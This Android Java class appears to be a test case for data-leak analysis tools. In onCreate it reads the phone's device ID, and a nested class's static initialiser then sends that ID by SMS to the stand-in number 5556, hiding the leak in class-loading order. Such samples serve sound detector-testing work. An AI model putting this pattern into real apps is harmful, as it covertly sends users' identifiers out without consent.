package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** A static initialiser sends what was left before the class is first used. */
public class FirstUse extends Case {
    static String left = "";
    static class Late { static { SmsManager.getDefault().sendTextMessage("5556", null, left, null, null); } }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        left = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        new Late();
    }
}
